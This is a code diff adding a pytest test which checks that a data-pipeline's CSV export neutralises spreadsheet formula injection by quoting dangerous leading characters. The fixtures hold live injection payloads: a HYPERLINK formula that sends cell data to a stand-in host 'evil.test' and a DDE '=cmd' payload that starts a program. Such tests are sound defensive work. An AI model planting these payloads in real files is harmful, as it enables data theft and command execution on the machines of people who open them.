@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import stat
@@ -10,7 +11,12 @@ import zipfile
 
 import polars as pl
 import pytest
-from support import add_stripe_connection, fetch_to_staging, remember_secret
+from support import (
+    add_stripe_connection,
+    add_tenant_with_facts,
+    fetch_to_staging,
+    remember_secret,
+)
 
 from writevue_pipelines import cli, links, refresh, registry
 from writevue_pipelines.errors import InvalidInput
@@ -120,3 +126,49 @@ def test_cli_export_is_audited(runtime, client, tmp_path, capsys):
     assert events == [("dana", "tenant.export", tenant_id)]
     with runtime.db.session() as session:
         assert registry.get_tenant(session, runtime.keys, tenant_id).name == "Export Co"
+
+
+HOSTILE = ('=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx")
+
+
+def test_no_exported_csv_cell_starts_a_formula_and_numbers_stay_numbers(runtime, tmp_path):
+    day = dt.date(2026, 1, 15)
+    facts = pl.DataFrame(
+        {
+            "metric": ["charges", *HOSTILE],
+            "dimension": ["", *HOSTILE],
+            "day": [day] * (1 + len(HOSTILE)),
+            "value": [-12.5, *range(len(HOSTILE))],
+        }
+    )
+    tenant_id, _ = add_tenant_with_facts(runtime, "Formula Co", facts)
+    with runtime.db.session() as session:
+        links.create_link(session, tenant_id, label="=cmd|' /C calc'!A0")
+    out = tmp_path / "export.zip"
+    export_tenant(runtime, tenant_id, out)
+    with zipfile.ZipFile(out) as archive:
+        tables = {
+            name: list(
+                csv.reader(io.StringIO(archive.read(name).decode()), quoting=csv.QUOTE_NONNUMERIC)
+            )
+            for name in ("aggregates.csv", "connections.csv", "links.csv")
+        }
+        parquet = pl.read_parquet(io.BytesIO(archive.read("aggregates.parquet")))
+        readme = archive.read("README.txt").decode()
+    for name, (header, *rows) in tables.items():
+        assert rows and all(isinstance(cell, str) for cell in header), name
+        for row in rows:
+            for column, cell in zip(header, row, strict=True):
+                if name == "aggregates.csv" and column == "value":
+                    assert isinstance(cell, float)  # unquoted: a number
+                else:
+                    assert isinstance(cell, str), (name, column, cell)  # quoted: text
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    header, *rows = tables["aggregates.csv"]
+    found = {(row[header.index("metric")], row[header.index("dimension")]) for row in rows}
+    assert found == {("charges", "")} | {("'" + value, "'" + value) for value in HOSTILE}
+    assert -12.5 in [row[header.index("value")] for row in rows]
+    assert tables["links.csv"][1][1] == "'=cmd|' /C calc'!A0"
+    # The Parquet file keeps every value exactly; the README says why the CSV differs.
+    assert set(parquet["dimension"]) == {"", *HOSTILE}
+    assert "formula" in readme and "aggregates.parquet" in readme
